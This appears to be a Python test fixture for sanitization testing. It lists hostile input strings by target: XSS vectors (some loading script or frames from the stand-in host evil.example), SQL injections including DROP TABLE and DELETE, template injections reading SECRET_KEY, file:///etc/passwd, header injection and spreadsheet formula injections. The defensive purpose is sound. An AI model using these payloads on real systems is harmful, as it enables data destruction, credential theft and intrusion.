"""Sixty hostile texts by what they aim at (S6). None holds anything that a page, paper, mail or file of ours may act upon."""

HTML = (
    "<script>alert(1)</script>",
    "</td></tr></table><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<body onload=alert(4)>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><button>x</button></form>",
    "<a href=javascript:alert(5)>x</a>",
    "<details open ontoggle=alert(6)>",
    "<math><mtext><script>alert(7)</script></mtext></math>",
    "<!--><script>alert(8)</script>-->",
    "</textarea><script>alert(9)</script>",
    "</title><script>alert(10)</script>",
    "<scr<script>ipt>alert(11)</scr</script>ipt>",
    "&lt;script&gt;alert(12)&lt;/script&gt;",
    "<script src=//evil.example/x.js></script>",
)
ATTRIBUTE = (
    '" onmouseover="alert(20)',
    "' onfocus='alert(21)' autofocus='",
    '"><svg onload=alert(22)>',
    'x" style="background:url(https://evil.example)',
    "` onclick=alert(23) `",
    '" formaction="javascript:alert(24)',
    '" hx-get="https://evil.example" hx-trigger="load',
    '" hx-on:click="alert(25)',
)
ADDRESS = (
    "javascript:alert(30)",
    "JaVaScRiPt:alert(31)",
    "data:text/html,<script>alert(32)</script>",
    "vbscript:msgbox(33)",
    "//evil.example/x",
    "https://evil.example/?next=https://evil.example",
    "file:///etc/passwd",
)
STYLE = (
    "</style><script>alert(40)</script>",
    "x{background:url(https://evil.example/x)}",
    "@import 'https://evil.example/x.css';",
    "expression(alert(41))",
)
DRAWING = (
    "<svg><script>alert(50)</script></svg>",
    "<svg onload=alert(51)>",
    "<svg><image href=https://evil.example/x></svg>",
    "</text><a xlink:href=javascript:alert(52)>x</a>",
)
TEMPLATE = ("{{ 7|add:7 }}", "{% load static %}", "{{ settings.SECRET_KEY }}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "%(name)s %s {0}")
DATABASE = (
    "'; DROP TABLE accounts_account; --",
    '" OR 1=1 --',
    "1' UNION SELECT email FROM people_user --",
    "%' AND '1'='1",
    "\\'); DELETE FROM people_user; --",
    'NEAR("a" "b") * OR',
)
HEADER_AND_LOG = ("x\\r\\nX-Evil: 1", "x%0d%0aSet-Cookie: evil=1", "=?utf-8?q?evil?=", '{"level":"ERROR"}')
SHEET = ('=HYPERLINK("https://evil.example")', "+1+1|cmd", "-2+3", "@SUM(1)", " =1+1")

ALL = (*HTML, *ATTRIBUTE, *ADDRESS, *STYLE, *DRAWING, *TEMPLATE, *DATABASE, *HEADER_AND_LOG, *SHEET)
